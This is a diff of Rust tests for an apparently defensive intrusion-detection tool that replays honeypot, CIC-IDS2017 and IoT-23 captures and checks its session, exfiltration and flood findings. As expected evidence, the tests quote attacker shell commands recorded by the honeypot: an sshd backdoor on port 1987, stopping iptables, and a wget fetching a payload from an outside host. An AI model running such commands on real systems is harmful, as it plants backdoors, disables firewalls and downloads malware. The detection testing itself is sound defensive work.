@@ -9,7 +9,7 @@ mod real_data;
 use std::collections::BTreeSet;
 use std::sync::atomic::AtomicBool;
 
-use netsleuth::detection::behaviour::{Finding, FindingKind, Severity};
+use netsleuth::detection::behaviour::{sessions, Finding, FindingKind, Severity};
 use netsleuth::detection::{detect, Action, Detection, DetectionSettings, Role, SourceVerdict};
 use netsleuth::events::EventTable;
 
@@ -97,6 +97,53 @@ fn the_cowrie_compromise_is_the_first_finding_and_quotes_its_commands() {
         shell.evidence[0],
         "ln -sf /usr/sbin/sshd /tmp/su;/tmp/su -oPort=1987"
     );
+}
+
+#[test]
+fn cowrie_sessions_tell_their_story() {
+    let (t, d) = run("honeypot/cowrie/cowrie.json.2018-05-19");
+    let story = |ip: &str| sessions(&t, &source(&d, ip).stats.rows);
+    let intruder = story("111.73.46.18");
+    assert_eq!(intruder.len(), 1);
+    let s = &intruder[0];
+    assert_eq!(s.id, "abc60b61c358");
+    assert_eq!(s.protocol, "ssh");
+    assert_eq!(s.client.as_deref(), Some("SSH-2.0-libssh2_1.4.2"));
+    assert!(s.failed.is_empty());
+    assert_eq!(s.login.as_deref(), Some("root/1234"));
+    assert_eq!(s.commands.len(), 15);
+    assert_eq!(
+        s.commands[..4],
+        [
+            "ln -sf /usr/sbin/sshd /tmp/su;/tmp/su -oPort=1987",
+            "service iptables stop",
+            "cd /tmp",
+            "wget http://mdb7.cn:8081/exp",
+        ]
+    );
+    // Cowrie also records the redirect to /dev/null as a "download": not a fetched file.
+    assert_eq!(s.downloads.len(), 1);
+    assert!(s.downloads[0].starts_with("http://mdb7.cn:8081/exp"));
+    let sentence = s.sentence();
+    for part in [
+        "logged in as `root/1234`",
+        "ran 15 commands",
+        "fetched `http://mdb7.cn:8081/exp",
+    ] {
+        assert!(sentence.contains(part), "{sentence}");
+    }
+    // 12 sessions, 5 of which logged in or ran commands, 6 failed logins in all.
+    let mixed = story("115.75.221.229");
+    assert_eq!(mixed.len(), 12);
+    assert_eq!(mixed.iter().filter(|s| s.got_in()).count(), 5);
+    assert_eq!(mixed.iter().map(|s| s.failed.len()).sum::<usize>(), 6);
+    // 74 sessions of one failed login each.
+    let guesser = story("185.222.209.108");
+    assert_eq!(guesser.len(), 74);
+    assert!(guesser.iter().all(|s| !s.got_in() && s.failed.len() == 1));
+    assert!(guesser[0].sentence().starts_with("1 failed login (`"));
+    let rows: usize = guesser.iter().map(|s| s.rows.len()).sum();
+    assert_eq!(rows, source(&d, "185.222.209.108").stats.rows.len());
 }
 
 #[test]
@@ -605,4 +652,77 @@ fn return_flows_make_a_server_not_a_suspect() {
             s.reasons
         );
     }
+}
+
+#[test]
+fn data_leaving_the_network_is_named_with_its_bytes() {
+    // CIC-IDS2017's infiltration and botnet, worked out with Python from the file:
+    // 192.168.10.8 sent 14,071,068 bytes to 205.174.165.73 (ports 444 and 8080, 149 flows)
+    // and received 16,491; 192.168.10.25 sent it 12,916,626 over 4 flows and received
+    // 148,369; the bots 192.168.10.9 and .15 sent their controller 1,475,894 and 1,312,504
+    // (.5 and .14 stay under a megabyte). No benign host sends any external one more than
+    // 311,054 bytes.
+    let (_, d) = run("cic-ids2017/cicids2017_improved_sample_mixed.csv");
+    let f = finding(source(&d, "192.168.10.8"), FindingKind::Exfiltration).expect("upload");
+    assert_eq!(f.evidence, ["205.174.165.73"]);
+    assert_eq!(f.rows.len(), 149);
+    for part in [
+        "sent 14.1 MB to external host 205.174.165.73 (ports 444, 8080)",
+        "received 16.5 KB",
+    ] {
+        assert!(f.summary.contains(part), "{}", f.summary);
+    }
+    let f = finding(source(&d, "192.168.10.25"), FindingKind::Exfiltration).expect("upload");
+    assert!(f.summary.contains("sent 12.9 MB"), "{}", f.summary);
+    let uploaders: BTreeSet<String> = d
+        .sources
+        .iter()
+        .filter(|s| finding(s, FindingKind::Exfiltration).is_some())
+        .map(|s| s.stats.ip.to_string())
+        .collect();
+    let expected = [
+        "192.168.10.15",
+        "192.168.10.25",
+        "192.168.10.8",
+        "192.168.10.9",
+    ];
+    assert_eq!(uploaders, expected.iter().map(|s| s.to_string()).collect());
+    for ip in expected {
+        let f = finding(source(&d, ip), FindingKind::Exfiltration).unwrap();
+        assert_eq!(f.evidence, ["205.174.165.73"], "{ip}");
+    }
+    for s in &d.sources {
+        assert!(finding(s, FindingKind::Flood).is_none(), "{}", s.stats.ip);
+    }
+}
+
+#[test]
+fn a_mirai_flood_and_its_long_command_channel() {
+    // IoT-23 44-1: the one DDoS flow sent 1,744,830,458 bytes to 86.136.151.56:80 in 300.8 s
+    // with nothing back; the C&C flow to 46.101.251.172:23 stayed open 6,803 s.
+    let (_, d) = run("iot-23/CTU-Malware-Capture-44-1-labeled.csv");
+    let bot = source(&d, "192.168.1.199");
+    let flood = finding(bot, FindingKind::Flood).expect("flood");
+    assert_eq!(flood.evidence, ["86.136.151.56"]);
+    assert_eq!(flood.rows.len(), 1);
+    assert!(
+        flood.summary.starts_with(
+            "sent 1.7 GB to 86.136.151.56 (port 80) in 1 connection at 5.8 MB/s, with 0 B back"
+        ),
+        "{}",
+        flood.summary
+    );
+    let long = finding(bot, FindingKind::LongConnection).expect("long connection");
+    assert_eq!(long.evidence, ["46.101.251.172"]);
+    assert!(
+        long.summary
+            .starts_with("held a connection to 46.101.251.172 (port 23) open for up to 1.9 h"),
+        "{}",
+        long.summary
+    );
+    assert_eq!(bot.action, Action::Isolate);
+    assert!(
+        finding(bot, FindingKind::Exfiltration).is_none(),
+        "a flood is no upload"
+    );
 }
